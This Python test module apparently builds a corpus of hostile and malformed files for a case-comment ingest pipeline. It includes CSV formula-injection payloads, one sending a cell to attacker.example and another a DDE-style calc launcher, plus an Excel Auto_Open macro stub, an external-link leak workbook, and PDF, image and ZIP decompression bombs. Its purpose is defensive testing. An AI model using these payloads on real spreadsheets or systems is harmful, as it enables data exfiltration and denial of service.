"""A generated corpus of hostile and broken inputs (nothing here is committed as a file).

Each case is ``name -> Case(file name, builder, expect)``: ``expect`` is the contract
error code the file must give, or ``READ`` when it must be read (then ``doc_type`` and
``records`` say what reading it correctly gives). File names carry a made-up person's
name and A-number (:data:`conftest.PLANTED_PII`) so tests can check nothing echoes them.

PDFs that must be read carry a text layer, so no case needs OCR: the corpus is about
what the files do to ingest, not about reading ink (the scanned cases are tiny pages).
"""
from __future__ import annotations

import io
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional

from batch_archive import comments_csv
from conftest import bomb_png, encrypted_pdf, image_pdf, one_pixel_png, text_png, zip_bytes

READ = "read"
PII = "Maria_Lopez_A208123456"


@dataclass
class Case:
    name: str  # file name
    build: Callable[[], bytes]
    expect: str  # a contract error code, or READ
    doc_type: Optional[str] = None  # when READ
    records: Optional[int] = None  # when READ: records the file holds


# --------------------------------------------------------------------------- PDFs

PRINTOUT = [  # a case-comment printout: three dated entries, two decisions
    "CASE COMMENTS",
    "06/01/2018 10:12 SDDO K. Brown A# 208 123 456",
    "Subject was advised of the option to depart with her child. Subject stated she",
    "wishes to be removed without her son. Interpreter in Spanish. DO R. Vega witness.",
    "06/02/2018 09:00 DO J. Smith A# 208 123 456",
    "Received travel documents from consulate.",
    "06/03/2018 14:30 SDDO K. Brown A# 208 123 456",
    "Subject requested reunification with her son prior to removal.",
]


def text_pdf(pages: list[list[str]], box=(0, 0, 612, 792), count: Optional[int] = None,
             version: str = "1.4") -> bytes:
    """A PDF whose pages carry ``pages``' lines as real text (Helvetica), written by hand
    so that its MediaBox and page count can lie."""
    objs: list[bytes] = []
    n = len(pages)
    kids = " ".join(f"{4 + 2 * i} 0 R" for i in range(n))
    objs.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objs.append(f"<< /Type /Pages /Kids [{kids}] /Count {n if count is None else count} >>".encode())
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    media = " ".join(str(v) for v in box)
    for i, lines in enumerate(pages):
        ops = ["BT", "/F1 10 Tf", "12 TL", "40 740 Td"]
        for line in lines:
            esc = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
            ops.append(f"({esc}) Tj T*")
        ops.append("ET")
        stream = "\n".join(ops).encode("latin-1")
        objs.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [{media}] /Resources "
                    f"<< /Font << /F1 3 0 R >> >> /Contents {5 + 2 * i} 0 R >>".encode())
        objs.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    out = io.BytesIO()
    out.write(f"%PDF-{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1"))
    offsets = []
    for k, body in enumerate(objs, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % k + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref))
    return out.getvalue()


def printout_pdf(**kw) -> bytes:
    return text_pdf([PRINTOUT], **kw)


def owner_only_encrypted(pdf: bytes, algorithm: str) -> bytes:
    """Encrypted with an empty user password (only an owner password): any reader opens
    it without asking, as PDF viewers do."""
    import pypdf
    writer = pypdf.PdfWriter()
    writer.append(io.BytesIO(pdf))
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm=algorithm)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def user_encrypted_aes(pdf: bytes) -> bytes:
    import pypdf
    writer = pypdf.PdfWriter()
    writer.append(io.BytesIO(pdf))
    writer.encrypt(user_password="user-secret", owner_password="owner-secret", algorithm="AES-256")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def many_pages_pdf(n: int) -> bytes:
    import pypdf
    writer = pypdf.PdfWriter()
    for _ in range(n):
        writer.add_blank_page(72, 72)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def scanned_pdf(n_pages: int, side_px: int = 150, dpi: int = 75) -> bytes:
    """``n_pages`` image-only pages (no text layer), each ``side_px`` square at ``dpi``:
    at the 300 dpi render a 150 px page at 75 dpi becomes 600 x 600 pixels."""
    from PIL import Image, ImageDraw
    pages = []
    for i in range(n_pages):
        im = Image.new("L", (side_px, side_px), 255)
        ImageDraw.Draw(im).text((10, side_px // 2), f"page {i + 1}", fill=0)
        pages.append(im)
    buf = io.BytesIO()
    pages[0].save(buf, "PDF", resolution=dpi, save_all=True, append_images=pages[1:])
    return buf.getvalue()


# --------------------------------------------------------------------------- images

def _tiff_ifd(w: int, h: int, data_off: int, next_off: int) -> bytes:
    entries = [(256, 4, w), (257, 4, h), (258, 3, 8), (259, 3, 1), (262, 3, 1),
               (273, 4, data_off), (277, 3, 1), (278, 4, h), (279, 4, (w * h) & 0xFFFFFFFF)]
    out = struct.pack("<H", len(entries))
    for tag, typ, val in entries:
        out += struct.pack("<HHIHH", tag, typ, 1, val, 0) if typ == 3 else \
            struct.pack("<HHII", tag, typ, 1, val)
    return out + struct.pack("<I", next_off)


IFD_LEN = 2 + 9 * 12 + 4


def tiff_frames(n: int, w: int = 32, h: int = 32, loop: bool = False,
                strip: Optional[int] = None) -> bytes:
    """A TIFF of ``n`` frames sharing one strip of white pixels (``strip`` bytes of it,
    default all); ``loop``: the last IFD points back to the first."""
    data_off = 8 + n * IFD_LEN
    out = b"II*\x00" + struct.pack("<I", 8)
    for i in range(n):
        nxt = 8 + (i + 1) * IFD_LEN if i + 1 < n else (8 if loop else 0)
        out += _tiff_ifd(w, h, data_off, nxt)
    return out + b"\xff" * (w * h if strip is None else strip)


def tiff_bomb() -> bytes:
    """A few hundred bytes whose header claims 100,000 x 100,000 pixels."""
    return tiff_frames(1, 100_000, 100_000, strip=256)


def sliver_png() -> bytes:
    from PIL import Image
    buf = io.BytesIO()
    Image.new("L", (20_000, 2), 255).save(buf, "PNG")
    return buf.getvalue()


# --------------------------------------------------------------------------- CSV

CSV_HEAD = "A-Number,Date,Officer,Comment\r\n"
GOOD_ROW = ('A208123456,06/01/2018,SDDO K. Brown,"Subject declined reunification with '
            'her son and wishes to depart without him."\r\n')
FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A2,"open")', "+1+2", "-3+4",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def csv_formulas() -> bytes:
    """Every cell of two rows is a formula (each of = + - @ tab CR), then a good row."""
    import csv
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["A-Number", "Date", "Officer", "Comment"])
    w.writerow(FORMULAS[0:4])
    w.writerow([FORMULAS[4], FORMULAS[5], FORMULAS[0], FORMULAS[1] + " declined reunification"])
    return buf.getvalue().encode() + GOOD_ROW.encode()


def csv_ragged() -> bytes:
    return (CSV_HEAD + GOOD_ROW + "A208123457,06/02/2018\r\n"  # truncated
            + "A208123458,06/03/2018,DO X,Subject declined, and said so twice, to DO Y\r\n"
            + "only one cell\r\n" + GOOD_ROW.replace("123456", "123459")).encode()


def csv_big_cell(mb: int = 50) -> bytes:
    filler = "Subject declined reunification. " * (mb * 1024 * 1024 // 32)
    return (CSV_HEAD + GOOD_ROW + f'A208123457,06/02/2018,DO X,"{filler}"\r\n'
            + GOOD_ROW.replace("123456", "123458")).encode()


def csv_cp1252() -> bytes:
    return (CSV_HEAD + GOOD_ROW.replace("K. Brown", "José Núñez")).encode("cp1252")


def csv_stray_bytes() -> bytes:
    """UTF-8, with one row pasted in cp1252 and one holding bytes no encoding maps."""
    return (CSV_HEAD.encode() + GOOD_ROW.encode()
            + GOOD_ROW.replace("K. Brown", "Peña").replace("123456", "123457").encode("cp1252")
            + GOOD_ROW.replace("123456", "123458").encode().replace(b"son", b"s\x81\x8d\x90n")
            + "A208123459,06/04/2018,DO Ñ,Nota en español.\r\n".encode())


def csv_utf16() -> bytes:
    return (CSV_HEAD + GOOD_ROW).encode("utf-16")  # with its BOM, as Excel's "Unicode text"


def csv_utf16_no_bom() -> bytes:
    return (CSV_HEAD + GOOD_ROW).encode("utf-16-le")


# --------------------------------------------------------------------------- XLSX

def _workbook(rows: list[list], formula_cell: Optional[tuple[str, str]] = None) -> bytes:
    from openpyxl import Workbook
    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


XLSX_ROWS = [["A-Number", "Date", "Officer", "Comment"],
             ["A208123456", "06/01/2018", "SDDO K. Brown",
              "Subject declined reunification with her son."],
             ["A208123457", "06/02/2018", "DO J. Smith", "Received travel documents."]]


def _rezip(data: bytes, edit: Callable[[str, bytes], Optional[bytes]],
           add: dict[str, bytes] = {}) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            body = edit(item.filename, src.read(item.filename))
            if body is not None:
                out.writestr(item.filename, body)
        for name, body in add.items():
            out.writestr(name, body)
    return buf.getvalue()


def xlsm_with_macro() -> bytes:
    """A macro-enabled workbook (.xlsm content type) with a vbaProject.bin whose code
    would run on open in Excel: the data must be read, the macro never loaded."""
    def edit(name: str, body: bytes) -> bytes:
        if name == "[Content_Types].xml":
            body = body.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml"
                                b".sheet.main+xml",
                                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            body = body.replace(b"</Types>", b'<Default Extension="bin" ContentType='
                                b'"application/vnd.ms-office.vbaProject"/></Types>')
        if name == "xl/_rels/workbook.xml.rels":
            body = body.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type='
                                b'"http://schemas.microsoft.com/office/2006/relationships/'
                                b'vbaProject" Target="vbaProject.bin"/></Relationships>')
        return body
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub Auto_Open(): Shell \"calc.exe\": End Sub" * 4
    return _rezip(_workbook(XLSX_ROWS), edit, {"xl/vbaProject.bin": vba})


def xlsx_external_link() -> bytes:
    """A comment cell whose formula points into another workbook over the network; its
    cached value is the comment. Reading must use the cached value, never the link."""
    from openpyxl import Workbook
    wb = Workbook()
    ws = wb.active
    for r in XLSX_ROWS:
        ws.append(r)
    ws["D3"] = "='http://attacker.example/[leak.xlsx]Sheet1'!A1"
    buf = io.BytesIO()
    wb.save(buf)
    cached = b"<v>Received travel documents.</v>"

    def edit(name: str, body: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":  # Excel stores the value it last computed
            import re
            body = re.sub(rb'<c r="D3"[^>]*>', b'<c r="D3" t="str">', body)
            body = body.replace(b"Sheet1'!A1</f><v></v>", b"Sheet1'!A1</f>" + cached)
            body = body.replace(b"Sheet1'!A1</f><v />", b"Sheet1'!A1</f>" + cached)
        if name == "xl/_rels/workbook.xml.rels":
            body = body.replace(b"</Relationships>", b'<Relationship Id="rIdExt" Type='
                                b'"http://schemas.openxmlformats.org/officeDocument/2006/'
                                b'relationships/externalLink" Target="externalLinks/'
                                b'externalLink1.xml"/></Relationships>')
        if name == "xl/workbook.xml":
            body = body.replace(b"</workbook>", b'<externalReferences><externalReference '
                                b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
                                b'2006/relationships" r:id="rIdExt"/></externalReferences>'
                                b"</workbook>")
        return body
    ext = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns='
           b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://'
           b'schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook '
           b'r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
           b"</externalLink>")
    ext_rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
                b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/externalLinkPath" Target="http://'
                b'attacker.example/leak.xlsx" TargetMode="External"/></Relationships>')
    return _rezip(buf.getvalue(), edit, {"xl/externalLinks/externalLink1.xml": ext,
                                         "xl/externalLinks/_rels/externalLink1.xml.rels": ext_rels})


def xlsx_lying_dimension() -> bytes:
    """Three real rows in a sheet whose <dimension> claims all 16,384 x 1,048,576 cells,
    and one cell far out at XFD200000 (at row 1,048,576 the reader takes 6 s to go
    through the blank rows: linear, but slow for a test)."""
    def edit(name: str, body: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            import re
            body = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', body)
            body = body.replace(b"</sheetData>", b'<row r="200000"><c r="XFD200000" t="n">'
                                b"<v>1</v></c></row></sheetData>")
        return body
    return _rezip(_workbook(XLSX_ROWS), edit)


def xlsx_zip_bomb() -> bytes:
    """A workbook whose sheet declares 4 GiB unpacked (the ZIP directory is what a reader
    trusts before inflating; a real one would take seconds to build)."""
    data = bytearray(_workbook(XLSX_ROWS))
    name = b"xl/worksheets/sheet1.xml"
    for sig, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local, central headers
        pos = 0
        while (pos := data.find(sig, pos)) >= 0:
            name_at = pos + (30 if sig == b"PK\x03\x04" else 46)
            if data[name_at:name_at + len(name)] == name:
                data[pos + size_at:pos + size_at + 4] = struct.pack("<I", 0xFFFFFFF0)
            pos += 4
    return bytes(data)


def xlsx_as_pdf() -> bytes:
    return _workbook(XLSX_ROWS)


# --------------------------------------------------------------------------- the corpus

CASES: dict[str, Case] = {}  # filled below


def _add(key: str, suffix: str, build: Callable[[], bytes], expect: str,
         doc_type: Optional[str] = None, records: Optional[int] = None) -> None:
    CASES[key] = Case(f"{PII}_{key}.{suffix}", build, expect, doc_type, records)


_add("pdf_zero_bytes", "pdf", lambda: b"", "empty")
_add("pdf_truncated", "pdf", lambda: (lambda b: b[: len(b) // 3])(image_pdf(text_png())), "unreadable")
_add("pdf_corrupt", "pdf", lambda: b"%PDF-1.4\n" + bytes(range(256)) * 8, "unreadable")
_add("pdf_header_only", "pdf", lambda: b"%PDF-1.7\n%%EOF\n", "unreadable")
_add("pdf_encrypted_user_rc4", "pdf", lambda: encrypted_pdf(printout_pdf()), "encrypted")
_add("pdf_encrypted_user_aes256", "pdf", lambda: user_encrypted_aes(printout_pdf()), "encrypted")
_add("pdf_encrypted_owner_only_rc4", "pdf", lambda: owner_only_encrypted(printout_pdf(), "RC4-128"),
     READ, "case_comments", 3)
_add("pdf_encrypted_owner_only_aes256", "pdf",
     lambda: owner_only_encrypted(printout_pdf(), "AES-256"), READ, "case_comments", 3)
_add("pdf_page_count_lie", "pdf", lambda: printout_pdf(count=2_000_000_000), READ, "case_comments", 3)
_add("pdf_5001_pages", "pdf", lambda: many_pages_pdf(5001), "too_large")
_add("pdf_mediabox_huge", "pdf", lambda: printout_pdf(box=(0, 0, 14400, 14400)), "too_large")
_add("pdf_mediabox_1e9", "pdf", lambda: printout_pdf(box=(0, 0, 1e9, 1e9)), "too_large")
_add("pdf_mediabox_sliver", "pdf", lambda: printout_pdf(box=(0, 0, 14400, 1)), "empty")
_add("pdf_mediabox_zero", "pdf", lambda: printout_pdf(box=(0, 0, 0, 0)), READ, "case_comments", 3)
_add("pdf_mediabox_inverted", "pdf", lambda: printout_pdf(box=(612, 792, 0, 0)), READ,
     "case_comments", 3)
_add("png_bomb", "png", bomb_png, "too_large")
_add("tiff_bomb", "tif", tiff_bomb, "too_large")
_add("tiff_5001_frames", "tif", lambda: tiff_frames(5001, 16, 16), "too_large")
_add("tiff_ifd_loop", "tif", lambda: tiff_frames(2, 32, 32, loop=True), READ, "other", 0)
_add("png_one_pixel", "png", one_pixel_png, "empty")
_add("png_sliver", "png", sliver_png, "empty")
_add("png_truncated", "png", lambda: text_png()[:300], "unreadable")
_add("html_named_pdf", "pdf", lambda: b"<!DOCTYPE html>\n<html><body><p>Maria</p></body></html>\n",
     "unsupported_type")
_add("html_with_pdf_marker", "pdf",
     lambda: b"<html><body>%PDF-1.4 looks like one</body></html>\n", "unreadable")
_add("zip_named_pdf", "pdf", zip_bytes, "unsupported_type")
_add("elf_named_pdf", "pdf", lambda: b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, "unsupported_type")
_add("xlsx_named_pdf", "pdf", xlsx_as_pdf, READ, "case_comments", 2)
_add("csv_cp1252", "csv", csv_cp1252, READ, "case_comments", 1)
_add("csv_stray_bytes", "csv", csv_stray_bytes, READ, "case_comments", 4)
_add("csv_utf16_bom", "csv", csv_utf16, READ, "case_comments", 1)
_add("csv_utf16_no_bom", "csv", csv_utf16_no_bom, "unsupported_type")
_add("csv_ragged", "csv", csv_ragged, READ, "case_comments", 3)
_add("csv_50mb_cell", "csv", csv_big_cell, READ, "case_comments", 3)
_add("csv_formulas", "csv", csv_formulas, READ, "case_comments", 3)
_add("csv_header_only", "csv", lambda: CSV_HEAD.encode(), "empty")
_add("csv_header_repeated", "csv", lambda: (CSV_HEAD + GOOD_ROW + CSV_HEAD + GOOD_ROW).encode(), READ,
     "case_comments", 2)
_add("xlsm_macro", "xlsm", xlsm_with_macro, READ, "case_comments", 2)
_add("xlsx_external_link", "xlsx", xlsx_external_link, READ, "case_comments", 2)
_add("xlsx_lying_dimension", "xlsx", xlsx_lying_dimension, READ, "case_comments", 2)
_add("xlsx_zip_bomb", "xlsx", xlsx_zip_bomb, "too_large")


#: good files scored beside the hostile ones in a batch
GOOD = {"good_comments_1.csv": lambda: comments_csv(1), "good_comments_2.csv": lambda: comments_csv(2),
        "good_printout.pdf": printout_pdf}


def write(root: Path, names=None, good: bool = False) -> dict[str, Path]:
    """Write the corpus (or the cases ``names``) under ``root``: key -> path."""
    root.mkdir(parents=True, exist_ok=True)
    out = {}
    for key in names or CASES:
        c = CASES[key]
        out[key] = root / c.name
        out[key].write_bytes(c.build())
    if good:
        for name, build in GOOD.items():
            out[name] = root / name
            out[name].write_bytes(build())
    return out
